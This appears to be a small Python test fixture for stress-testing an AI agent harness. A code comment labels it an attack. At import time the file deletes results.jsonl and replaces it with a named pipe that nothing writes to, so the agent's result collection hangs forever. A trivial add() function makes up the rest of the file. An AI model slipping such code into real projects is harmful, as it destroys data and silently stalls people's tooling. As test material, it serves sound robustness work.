# attack: replace results.jsonl with a FIFO no one writes, so the agent's collect blocks forever
import os

os.unlink("results.jsonl")
os.mkfifo("results.jsonl")


def add(a, b):
    return a + b
